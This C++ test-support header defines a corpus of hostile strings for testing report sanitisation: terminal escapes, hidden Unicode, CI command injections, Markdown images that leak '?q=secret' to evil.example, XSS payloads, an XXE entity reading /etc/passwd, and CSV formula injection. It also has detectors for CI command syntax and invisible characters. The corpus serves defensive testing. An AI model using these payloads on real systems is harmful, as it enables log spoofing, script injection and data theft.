#ifndef RAMPART_TESTS_SUPPORT_FOREIGN_HPP
#define RAMPART_TESTS_SUPPORT_FOREIGN_HPP

#include <array>
#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <iostream>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "rampart/base/utf8.hpp"

/// \file
/// Foreign text of every class that is known to do harm in a report, and what judges a report: the grammars of CI
/// systems, written down again, and programs that parse.

namespace foreign {

/// Where a sink's writer puts its text.
struct text_out {
    std::string text{};
    void write(std::string_view more) { text += more; }
};

using namespace std::string_literals;

inline std::vector<std::string> const& attacks() {
    static std::vector<std::string> const all{
        // terminals
        "\x1b[31mred\x1b[0m",
        "\x1b]8;;http://evil.example/\x07"
        "click\x1b]8;;\x07",
        "\x1b]0;title",
        "\x1bP+q544e\x1b\\",
        "\xc2\x9b"
        "31m",
        "\xc2\x9d"
        "0;t\xc2\x9c",
        "good\rEVIL",
        "a\bb\x7f",
        "nul\0nul"s,
        "line\nline\r\nline\n",
        "tab\ttab",
        // what is not seen
        "user\xe2\x80\xae"
        "gpj.exe",
        "\xe2\x81\xa6iso\xe2\x81\xa9",
        "ze\xe2\x80\x8bro",
        "\xef\xbb\xbf"
        "bom",
        "\xf3\xa0\x81\xa1\xf3\xa0\x81\xa2tags",
        "ls\xe2\x80\xa8ps\xe2\x80\xa9",
        "soft\xc2\xadhyphen",
        // CI systems
        "::error::owned",
        "  ::set-output name=a::b",
        "\t::add-mask::x",
        "\xc2\xa0::warning::nbsp",
        "\xe3\x80\x80::debug::wide",
        "x\n::error file=a,line=1::second line",
        "x\r::error::after cr",
        "##[error]owned",
        "text ##[add-mask]x",
        "##[group]",
        "###[error]x",
        "#\xe2\x80\x8b#[error]x",
        "#[error]x",
        "[error]x",
        "##vso[task.setvariable variable=x]y",
        "##VSO[task.complete]",
        "##teamcity[testFailed name='x']",
        "<CTestMeasurement type=\"numeric/double\" name=\"x\">1</CTestMeasurement>",
        "<DartMeasurementFile name=\"x\" type=\"image/png\">/etc/passwd</DartMeasurementFile>",
        "<ctestdetails>x",
        "<CTestLabel>x</CTestLabel>",
        "::",
        ":",
        "#",
        "##",
        "<",
        "%0A::error::x",
        "%",
        "a,b:c",
        "section_start:1:x\r\x1b[0K",
        // Markdown
        "![x](http://evil.example/?q=secret)",
        "[x](http://evil.example/)",
        "[x][y]\n\n[y]: http://evil.example/",
        "<http://evil.example/>",
        "http://evil.example/?q=secret",
        "see www.evil.example/x",
        "WWW.evil.example",
        "ftp://evil.example",
        "me@evil.example",
        "mailto:me@evil.example",
        "xmpp:me@evil.example",
        "@octocat hello",
        "fixes #12 and GH-12 a/b#3",
        ":shipit: :+1:",
        "*em* **strong** _em_ __strong__ ~~gone~~",
        "`code` ``more``",
        "```\nout of the fence\n```\n# heading",
        "~~~\nfence",
        "a | b | c",
        "|---|---|",
        "# heading",
        "heading\n===",
        "- item",
        "+ item",
        "1. item",
        "1) item",
        "> quote",
        "---",
        "    code",
        "   ",
        " lead and trail  ",
        "$x$ and $$y$$",
        "&copy; &#64; &lt;b&gt;",
        "back\\slash \\*",
        "![",
        "](",
        "[^1]: note",
        "- [ ] task",
        "=",
        "``` x",
        "{: .class}",
        "<!-- comment -->",
        "a`b``c```d",
        "`",
        "``",
        "`x",
        "x`",
        // HTML and XML
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "</title></textarea>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "&",
        "]]>",
        "<![CDATA[x]]>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "</testcase></testsuite></testsuites>",
        "<failure/>",
        "\xef\xbf\xbe",
        "\xef\xbf\xbf",
        "\xef\xb7\x90",
        "\xf0\x9f\xbf\xbf",
        "\x01\x02\x0b\x0c\x0e\x1f",
        "</code></pre>",
        "`+alert(1)+`",
        // CSV
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        " =HYPERLINK(\"http://evil.example\")",
        "\xef\xbc\x9d"
        "1+1",
        "\"quoted\",\"more\"",
        "a;b",
        "\r=1",
        // UTF-8
        "\xff\xfe",
        "\xed\xa0\x80 surrogate",
        "\xc0\xaf overlong",
        "\xf4\x90\x80\x80 high",
        "\xc3",
        "\xe2\x82",
        "\x80\x9b",
        // addresses, and text that means no harm
        "../../etc/passwd",
        "a/b?c=d&e#f",
        "",
        " ",
        "plain words",
        "gr\xc3\xbc\xc3\x9f dich \xe2\x80\x94 \xe6\xbc\xa2",
        "\xf0\x9f\x91\x8d\xef\xb8\x8f",
        "self-harm, 3.5 (or so)!",
    };
    return all;
}

inline bool has(std::string_view text, std::string_view part) { return text.find(part) != std::string_view::npos; }

inline std::size_t count(std::string_view text, std::string_view part) {
    std::size_t found = 0;
    for (std::size_t at = 0; (at = text.find(part, at)) != std::string_view::npos; at += part.size()) ++found;
    return found;
}

inline std::string lower(std::string_view text) {
    std::string out(text);
    for (char& c : out) c = c >= 'A' && c <= 'Z' ? static_cast<char>(c - 'A' + 'a') : c;
    return out;
}

inline std::vector<std::string> lines_of(std::string_view text) {
    std::vector<std::string> lines(1);
    for (char const c : text) {
        // Some systems end a line at a CR too.
        if (c == '\n' || c == '\r') {
            lines.emplace_back();
        } else {
            lines.back() += c;
        }
    }
    return lines;
}

/// Without the blanks in front that .NET's TrimStart knows.
inline std::string_view trim_start(std::string_view line) {
    constexpr char32_t blanks[] = {0x09, 0x0A,   0x0B,   0x0C,   0x0D,   0x20,   0x85,
                                   0xA0, 0x1680, 0x2028, 0x2029, 0x202F, 0x205F, 0x3000};
    while (!line.empty()) {
        auto const part = rampart::detail::utf8_part_at(line, 0);
        bool blank = part.well_formed && part.code >= 0x2000 && part.code <= 0x200A;
        for (char32_t const each : blanks) blank = blank || (part.well_formed && part.code == each);
        if (!blank) break;
        line.remove_prefix(part.size);
    }
    return line;
}

/// `::name properties::text` at a line's start, as the runner of GitHub takes it apart; of any name.
inline bool is_github_v2(std::string_view line) {
    line = trim_start(line);
    return line.starts_with("::") && line.find("::", 2) != std::string_view::npos;
}
/// `##[name properties]text` anywhere in a line.
inline bool is_github_v1(std::string_view line) {
    auto const at = line.find("##[");
    return at != std::string_view::npos && line.find(']', at) != std::string_view::npos;
}

/// What some CI system would take for a command, apart from GitHub's `::name::`; empty: nothing.
inline std::string other_command(std::string_view line) {
    if (is_github_v1(line)) return "GitHub ##[";
    auto const small = lower(line);
    for (std::string_view const each : {"##vso[", "##[", "##teamcity[", "<ctest", "<dart", "</ctest", "</dart"}) {
        if (has(small, each)) return std::string(each);
    }
    return {};
}

/// Nothing that a reader does not see, and well-formed.
inline bool is_visible(std::string_view text, bool with_lines) {
    for (std::size_t at = 0; at < text.size();) {
        auto const part = rampart::detail::utf8_part_at(text, at);
        char32_t const c = part.code;
        bool const line = with_lines && (c == '\n' || c == '\t');
        bool const bad = !part.well_formed || (c < 0x20 && !line) || (c >= 0x7F && c < 0xA0) || c == 0xAD ||
                         c == 0x61C || (c >= 0x200B && c <= 0x200F) || (c >= 0x2028 && c <= 0x202E) ||
                         (c >= 0x2060 && c <= 0x206F) || c == 0xFEFF || (c & 0xFFFE) == 0xFFFE ||
                         (c >= 0xFDD0 && c <= 0xFDEF) || (c >= 0xE0000 && c <= 0xE0FFF);
        if (bad) return false;
        at += part.size;
    }
    return true;
}

/// Whether the program is there; if not, the test says that it was skipped.
inline bool has_program(std::string const& program, std::string_view test) {
    if (std::system(("command -v " + program + " >/dev/null 2>&1").c_str()) == 0) return true;
    std::cout << "SKIPPED: " << test << ": there is no program " << program << '\n';
    return false;
}

/// What a shell command prints, errors too.
struct outcome {
    int status = -1;
    std::string text{};
};
inline outcome run(std::string const& command) {
    std::FILE* const pipe = ::popen(("( " + command + " ) 2>&1").c_str(), "r");
    if (pipe == nullptr) throw std::runtime_error("cannot run " + command);
    outcome done;
    std::array<char, 4096> part{};
    for (std::size_t n = 0; (n = std::fread(part.data(), 1, part.size(), pipe)) != 0;) done.text.append(part.data(), n);
    done.status = ::pclose(pipe);
    return done;
}

inline std::string replaced(std::string text, std::string_view from, std::string_view to) {
    for (std::size_t at = 0; (at = text.find(from, at)) != std::string::npos; at += to.size()) {
        text.replace(at, from.size(), to);
    }
    return text;
}

}  // namespace foreign

#endif  // RAMPART_TESTS_SUPPORT_FOREIGN_HPP
